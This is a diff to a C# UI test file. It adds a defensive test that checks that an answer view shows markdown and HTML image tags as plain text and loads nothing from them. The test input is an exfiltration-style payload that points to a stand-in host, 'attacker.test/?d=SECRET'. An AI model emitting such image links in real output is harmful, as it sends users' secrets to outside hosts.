@@ -33,6 +33,16 @@ public sealed class AnswerViewTests : UiTest
     }
 
     [Fact]
+    public async Task An_image_in_an_answer_stays_text_and_nothing_is_loaded_for_it()
+    {
+        const string Answer = "It is so [1]. ![x](http://attacker.test/?d=SECRET) <img src=\"http://attacker.test/?d=SECRET\">";
+        var view = await RenderAsync(state => state with { Composed = new AnswerComposed(state.Composed!.Answer! with { Text = Answer, Citations = [], Errors = [] }, null) });
+
+        Assert.Contains("![x](http://attacker.test/?d=SECRET) <img src=", view.Find("article").TextContent, StringComparison.Ordinal);
+        Assert.Empty(view.FindAll("[src*='attacker'], [href*='attacker']"));
+    }
+
+    [Fact]
     public async Task An_assembled_answer_says_what_it_is()
     {
         var view = await RenderAsync(state => state with { Composed = new AnswerComposed(state.Composed!.Answer! with { IsAssembledFromQuotes = true }, null) });
